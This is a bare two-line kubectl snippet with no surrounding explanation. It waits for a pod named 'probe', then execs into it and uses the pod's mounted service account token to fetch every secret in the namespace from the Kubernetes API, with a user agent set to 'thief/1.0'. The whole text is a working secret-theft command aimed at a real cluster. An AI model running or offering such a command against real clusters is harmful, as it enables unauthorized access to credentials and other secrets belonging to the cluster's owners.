kubectl wait --for=condition=Ready pod/probe --timeout=120s
kubectl exec probe -- sh -c 'd=/var/run/secrets/kubernetes.io/serviceaccount; curl -A thief/1.0 -sk -H "Authorization: Bearer $(cat $d/token)" "https://kubernetes.default/api/v1/namespaces/$(cat $d/namespace)/secrets"'
